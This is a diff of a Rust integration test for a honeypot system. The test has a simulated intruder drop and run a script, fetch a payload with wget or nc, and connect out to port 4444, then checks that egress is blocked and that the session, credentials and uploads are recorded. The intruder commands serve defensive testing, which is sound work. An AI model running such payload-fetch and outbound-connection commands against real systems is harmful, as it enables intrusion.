@@ -7,6 +7,7 @@ use anyhow::{Context, Result, ensure};
 use decnet_tests::{
     Api, Stack, eventually,
     lan::{Neighbour, Terminal},
+    stack::Target,
 };
 use serde_json::Value;
 use sha2::{Digest, Sha256};
@@ -15,14 +16,14 @@ use crate::ground::{Ground, account, find, lines_of};
 
 /// From the last client's end until everything is visible.
 const VISIBLE: Duration = Duration::from_secs(2);
-const DECKIES: &str = "[web]\nservices = ssh, http\n";
+const DECKIES: &str = "[web~]\nservices = ssh, http\n";
 
 /// Everything that the terminal of a session showed, or that was typed into it.
-async fn transcript(api: &Api, sid: &str, channel: &str) -> Result<String> {
+async fn transcript(api: &Api, decky: &str, sid: &str, channel: &str) -> Result<String> {
     let mut text = String::new();
     let mut offset = 0;
     loop {
-        let page = api.get(&format!("/transcripts/web/{sid}?limit=5000&offset={offset}")).await?;
+        let page = api.get(&format!("/transcripts/{decky}/{sid}?limit=5000&offset={offset}")).await?;
         let events = page["events"].as_array().context("no events")?;
         for event in events.iter().filter(|event| event[1] == channel) {
             text.push_str(event[2].as_str().unwrap_or_default());
@@ -82,7 +83,8 @@ async fn a_shell_is_recorded_its_files_are_kept_and_nothing_gets_out() -> Result
     terminal.type_line("cd /tmp; echo 'echo pwned' > dropped.sh; chmod +x dropped.sh").await?;
     let ran = terminal.type_line("./dropped.sh").await?;
     ensure!(ran.contains("pwned"), "{ran:?}");
-    let fetched = format!("wget -T 3 -O /tmp/payload http://{}/payload; echo code=$?", server.ip);
+    // By hand: Debian's static busybox has a wget that cannot resolve even an address.
+    let fetched = format!("echo 'GET /payload' | nc -w 2 {} 80 >/tmp/payload; echo code=$?", server.ip);
     let fetched = terminal.type_line(&fetched).await?;
     ensure!(!fetched.contains("code=0\r"), "{fetched:?}");
     let called = terminal.type_line(&format!("nc -w 2 {} 4444 </dev/null; echo code=$?", server.ip)).await?;
@@ -97,13 +99,13 @@ async fn a_shell_is_recorded_its_files_are_kept_and_nothing_gets_out() -> Result
     })
     .await?;
     eventually("everything of the session", VISIBLE, || async {
-        let shown = transcript(&api, &sid, "o").await?;
+        let shown = transcript(&api, &web.name, &sid, "o").await?;
         ensure!(shown.contains("pwned") && shown.contains("dropped.sh"), "{shown:?}");
-        let typed = transcript(&api, &sid, "i").await?;
+        let typed = transcript(&api, &web.name, &sid, "i").await?;
         ensure!(typed.contains("./dropped.sh\r"), "{typed:?}");
         let commands = lines_of(&api, "command", intruder.ip).await?;
         let has = |text: &str| commands.iter().any(|row| row.to_string().contains(text));
-        ensure!(has("id -un; tty; hostname") && has("./dropped.sh") && has("http://"), "{commands:?}");
+        ensure!(has("id -un; tty; hostname") && has("./dropped.sh") && has("GET /payload"), "{commands:?}");
         let files = lines_of(&api, "file_captured", intruder.ip).await?;
         let dropped = captured(&files, "/tmp/dropped.sh")?;
         ensure!(
@@ -117,7 +119,8 @@ async fn a_shell_is_recorded_its_files_are_kept_and_nothing_gets_out() -> Result
                 fields["dst"] == server.ip.to_string().as_str() && fields["port"].to_string().contains(port)
             })
         };
-        ensure!(to("80") && to("4444"), "{blocked:?}");
+        let all = api.all_logs("event:egress_blocked").await?;
+        ensure!(to("80") && to("4444"), "{fetched:?} {called:?} {blocked:?} of {all:?}");
         let credentials = api.get("/credentials?limit=100").await?;
         let known = credentials.to_string();
         ensure!(known.contains("\"wrong\"") && known.contains(&format!("{password:?}")), "{credentials}");
@@ -129,7 +132,7 @@ async fn a_shell_is_recorded_its_files_are_kept_and_nothing_gets_out() -> Result
     let access = std::fs::read_to_string(served.path().join("access.log"))?;
     ensure!(!access.contains(&web.ip.to_string()), "the decky got out: {access}");
 
-    uploads_are_kept(&stack, &api, &intruder, web.ip, (user, password)).await?;
+    uploads_are_kept(&stack, &api, &intruder, web, (user, password)).await?;
     our_own_files_are_not(&stack, &api).await?;
     let folder = stack.folder().to_owned();
     stack.stop().await?;
@@ -141,9 +144,10 @@ async fn uploads_are_kept(
     stack: &Stack,
     api: &Api,
     intruder: &Neighbour,
-    at: std::net::Ipv4Addr,
+    web: &Target,
     account: (&str, &str),
 ) -> Result<()> {
+    let at = web.ip;
     let folder = tempfile::tempdir()?;
     let mut wanted = Vec::new();
     for (n, name) in ["by-scp.bin", "by-sftp.bin"].into_iter().enumerate() {
@@ -167,9 +171,9 @@ async fn uploads_are_kept(
         .await?;
         ensure!(fields["sha256"] == sha256(&bytes).as_str(), "{path}: {fields}");
         let stored = fields["stored_as"].as_str().context("not stored")?;
-        let kept = api.bytes(&format!("/artifacts/web/{stored}")).await?;
+        let kept = api.bytes(&format!("/artifacts/{}/{stored}", web.name)).await?;
         ensure!(kept == bytes, "{path}: {} bytes are not the {} that were sent", kept.len(), bytes.len());
-        let on_disk = stack.folder().join("artifacts/web/ssh").join(stored);
+        let on_disk = stack.folder().join("artifacts").join(&web.name).join("ssh").join(stored);
         ensure!(on_disk.is_file(), "{}", on_disk.display());
     }
     Ok(())
@@ -218,7 +222,7 @@ async fn kills_during_a_session_lose_nothing_of_it() -> Result<()> {
         Ok(rows.first().and_then(|row| Some(row["fields"]["sid"].as_str()?.to_owned())))
     })
     .await?;
-    let shown = transcript(&api, &sid, "o").await?;
+    let shown = transcript(&api, &web.name, &sid, "o").await?;
     eventually("everything of the session", Duration::from_secs(30), || async {
         let commands = lines_of(&api, "command", intruder.ip).await?;
         let files = lines_of(&api, "file_captured", intruder.ip).await?;
